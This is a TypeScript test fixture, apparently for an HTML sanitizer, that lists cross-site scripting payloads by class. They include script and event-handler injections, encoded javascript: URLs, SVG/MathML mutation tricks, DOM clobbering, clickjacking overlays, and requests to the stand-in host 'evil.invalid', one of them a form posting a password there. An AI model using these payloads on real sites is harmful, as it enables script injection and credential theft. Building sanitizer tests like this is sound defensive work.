/** Name of the global function that a payload calls if it runs. */
export const ALARM = 'alarm'

const run = `top.${ALARM}(1)`
const away = 'https://evil.invalid'
const spelled = (text: string, pad: (letter: string) => string): string => [...text].map(pad).join('')

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script >`,
  `<<script>${run}//<</script>`,
  `<script type="module">${run}</script>`,
  `</title><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><script>${run}</script></textarea><img src=x onerror=${run}>`,
  `<template><script>${run}</script><img src=x onerror=${run}></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror=${run}></template></div>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}"><applet code=x></applet>`,
]
const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerrawupdate',
]
const handlers = [
  ...events.map((event) => `<img src=/x ${event}="${run}">`),
  ...events.map((event) => `<p ${event.toUpperCase()}=${run} tabindex=1 autofocus>x</p>`),
  `<svg onload=${run}>`,
  `<svg/onload=${run}><p>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<video><source onerror=${run}></video><audio src=x onerror=${run}></audio>`,
  `<input autofocus onfocus=${run}><select autofocus onfocus=${run}></select><button autofocus onfocus=${run}>x</button>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<img src="x\` \`<img src=x onerror=${run}>"\` \`>`,
  `<img src=x:x onerror\u000c=${run}>`,
  `<img """><img src=x onerror=${run}>">`,
  `<a href="x"onmouseover=${run}//">x</a>`,
]
const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&#x0A;script:${run}`,
  `javascript&colon;${run}`,
  `&#106;&#97;vascript:${run}`,
  spelled(`javascript:${run}`, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
  spelled(`javascript:${run}`, (letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')}`),
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `blob:${away}/1`,
  'file:///etc/passwd',
  'intent://x#Intent;scheme=x;end',
  'view-source:https://example.com',
].flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<img src="${address}">`,
  `<a xlink:href="${address}">x</a>`,
  `<iframe src="${address}"></iframe>`,
  `<form action="${address}"><button formaction="${address}">x</button></form>`,
  `<svg><a xlink:href="${address}"><text>x</text></a><use href="${address}"/></svg>`,
  `<math href="${address}"><mtext>x</mtext></math>`,
])
const namespaces = [
  `<svg><script>${run}</script></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><desc><b title="</desc></svg><img src=x onerror=${run}>"></b></desc></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<svg><title><style><img src="</style><img src=x onerror=${run}//"></style></title></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<noembed><img src="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<table><td><svg><desc><td></desc></svg><img src=x onerror=${run}></td></table>`,
  `<!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>--!><![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}><?import namespace="t" implementation="${away}">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=${run}>">`,
]
const requests = [
  `<style>@import '${away}/x.css'; * { background: url(${away}/x) }</style>`,
  `<link rel=stylesheet href=${away}/x.css><link rel=preload as=image href=${away}/x><link rel=dns-prefetch href=//evil.invalid>`,
  `<p style="background:url(${away}/x);width:expression(${run});behavior:url(x.htc);-moz-binding:url(${away})">x</p>`,
  `<meta http-equiv=refresh content="0;url=${away}"><base href="${away}/"><a href="/x">x</a>`,
  `<iframe src=${away}></iframe><iframe srcdoc="<script>parent.${ALARM}(1)</script>"></iframe><frameset><frame src=${away}></frameset>`,
  `<form action=${away} method=post><input name=password><input type=image src=${away}/x></form>`,
  `<video src=${away}/x poster=${away}/x autoplay></video><audio src=${away}/x autoplay></audio><picture><source srcset=${away}/x></picture>`,
  `<table background=${away}/x><td background=${away}/x>x</td></table><input type=image src=${away}/x><body background=${away}/x>`,
  `<a href="#" ping="${away}/x">x</a><img srcset="${away}/x 1x" src="/own.png"><track src=${away}/x>`,
  `<object data=${away}/x></object><embed src=${away}/x><portal src=${away}/x></portal>`,
]
const clobbering = [
  '<a id=body></a><a id=cookie name=cookie></a><img name=getElementById><form name=body><input name=attributes></form>',
  '<form id=x><input id=attributes><input name=nodeName><input name=parentNode><input name=innerHTML></form>',
  '<a id=config><a id=config name=api href="https://evil.invalid">x</a>',
]
const overlays = [
  '<div style="position:fixed;inset:0;z-index:99999;opacity:0">x</div><a href="https://evil.invalid" style="position:fixed;inset:0">x</a>',
  '<p class="sheet button primary" part="app" slot="x" is="x-y" popover dialog>x</p><dialog open style="position:fixed;inset:0">x</dialog>',
  '<div contenteditable draggable=true accesskey=x tabindex=1 role=button aria-label=x itemprop=x>x</div>',
]
const nesting = [
  `${'<div>'.repeat(20_000)}<img src=x onerror=${run}>`,
  `${'<b><i>'.repeat(3_000)}<script>${run}</script>`,
  `${'<table><tr><td>'.repeat(500)}<svg onload=${run}>`,
  `${'<p title="'.repeat(2_000)}<img src=x onerror=${run}>`,
]

/**
 * HTML that attacks the page showing it, by the classes of the public collections. Each must be shown without running scripts, sending requests or covering the
 * page.
 */
export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
  scripts,
  handlers,
  schemes,
  namespaces,
  requests,
  clobbering,
  overlays,
  nesting,
}
